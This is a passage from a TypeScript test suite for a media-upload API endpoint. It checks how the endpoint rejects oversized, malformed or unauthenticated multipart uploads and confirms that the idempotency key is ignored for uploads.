        controller.enqueue(new Uint8Array(256 * 1024));
        sent += 256 * 1024;
      },
    });
    const r = await fetch(`${server.url}/api/v1/desktop-projects/exe/media`, {
      method: 'POST',
      headers: { authorization: `Bearer ${team.key}`, 'content-type': `multipart/form-data; boundary=${boundary}` },
      body,
      duplex: 'half',
    } as RequestInit);
    const sentWhenAnswered = sent;
    const reply = (await r.json()) as ErrorReply;
    assert.equal(r.status, 422);
    assert.equal(reply.error.code, 'media_rejected');
    assert.ok(sentWhenAnswered < total / 2, `answered after ${sentWhenAnswered} of ${total} bytes`);
  });

  test('malformed forms are 400 invalid_request', async () => {
    const url = `${server.url}/api/v1/desktop-projects/forms/media`;
    const auth = { authorization: `Bearer ${team.key}` };
    const send = async (body: NonNullable<RequestInit['body']>, headers: Record<string, string> = {}) => {
      const r = await fetch(url, { method: 'POST', headers: { ...auth, ...headers }, body });
      return { status: r.status, body: (await r.json()) as ErrorReply };
    };
    const noFile = new FormData();
    noFile.append('name', 'just text');
    const twoFiles = new FormData();
    twoFiles.append('file', new Blob([new Uint8Array(fixtures.png)], { type: 'image/png' }), 'a.png');
    twoFiles.append('file', new Blob([new Uint8Array(fixtures.png)], { type: 'image/png' }), 'b.png');
    const wrongField = new FormData();
    wrongField.append('image', new Blob([new Uint8Array(fixtures.png)], { type: 'image/png' }), 'a.png');
    const fileAndField = new FormData();
    fileAndField.append('file', new Blob([new Uint8Array(fixtures.png)], { type: 'image/png' }), 'a.png');
    fileAndField.append('caption', 'hello');
    const cases: Array<[string, NonNullable<RequestInit['body']>, Record<string, string>]> = [
      ['no file', noFile, {}],
      ['an empty form', new FormData(), {}],
      ['two files', twoFiles, {}],
      ['the file in another field', wrongField, {}],
      ['a file and a field', fileAndField, {}],
      ['a JSON body', JSON.stringify({ file: 'aGVsbG8=' }), { 'content-type': 'application/json' }],
      ['raw bytes', new Uint8Array(fixtures.png), { 'content-type': 'image/png' }],
      [
        'a broken multipart body',
        '--x\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n\r\nabc',
        { 'content-type': 'multipart/form-data; boundary=x' },
      ],
      ['multipart without boundary', 'abc', { 'content-type': 'multipart/form-data' }],
    ];
    const before = await filesUnder(mediaRoot);
    for (const [label, body, headers] of cases) {
      const r = await send(body, headers);
      assert.equal(r.status, 400, `${label}: ${JSON.stringify(r.body)}`);
      assert.equal(r.body.error.code, 'invalid_request', label);
    }
    assert.deepEqual(await filesUnder(mediaRoot), before);
  });

  test('an early answer lingers: the client finishes sending and reads it, with no reset', async () => {
    // The first part is a text field, refused at once; the client sends the rest only after
    // it has read the answer, as a slow client would.
    const boundary = 'linger';
    const first = Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="note"\r\n\r\nhello\r\n`);
    const rest = Buffer.concat([
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n`),
      Buffer.from('Content-Type: image/png\r\n\r\n'),
      Buffer.alloc(4 * 1024 * 1024, 7),
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]);
    const outcome = await sendRestAfterAnswer(
      server,
      'POST /api/v1/desktop-projects/linger/media HTTP/1.1\r\nHost: localhost\r\n' +
        `Authorization: Bearer ${team.key}\r\nContent-Type: multipart/form-data; boundary=${boundary}\r\n` +
        `Content-Length: ${first.length + rest.length}\r\n\r\n`,
      first,
      rest,
    );
    assertAnsweredEarlyAndClosedCleanly(outcome, 400, 'invalid_request');
  });

  test('Idempotency-Key is not applied to uploads: each upload stores its own file', async () => {
    const headers = { authorization: `Bearer ${team.key}`, 'idempotency-key': 'same-key-for-both' };
    const urls: string[] = [];
    for (const [bytes, type, name] of [
      [fixtures.png, 'image/png', 'a.png'],
      [fixtures.jpeg, 'image/jpeg', 'b.jpg'],
    ] as const) {
      const form = new FormData();
      form.append('file', new Blob([new Uint8Array(bytes)], { type }), name);
      const r = await fetch(`${server.url}/api/v1/desktop-projects/idem/media`, {
        method: 'POST',
        headers,
        body: form,
      });
      assert.equal(r.status, 200);
      assert.equal(r.headers.get('idempotent-replayed'), null);
      const media = (await r.json()) as Media;
      assert.equal(media.content_type, type);
      urls.push(media.url);
    }
    assert.notEqual(urls[0], urls[1]);
  });

  test('an invalid project id is 400 and a missing credential 401', async () => {
    const bad = await upload(server, team.key, 'has space', fixtures.png, 'image/png', 'a.png');
    assert.equal(bad.status, 400, bad.text);
    const form = new FormData();
    form.append('file', new Blob([new Uint8Array(fixtures.png)], { type: 'image/png' }), 'a.png');
    const r = await fetch(`${server.url}/api/v1/desktop-projects/p/media`, { method: 'POST', body: form });
    assert.equal(r.status, 401);
  });
});
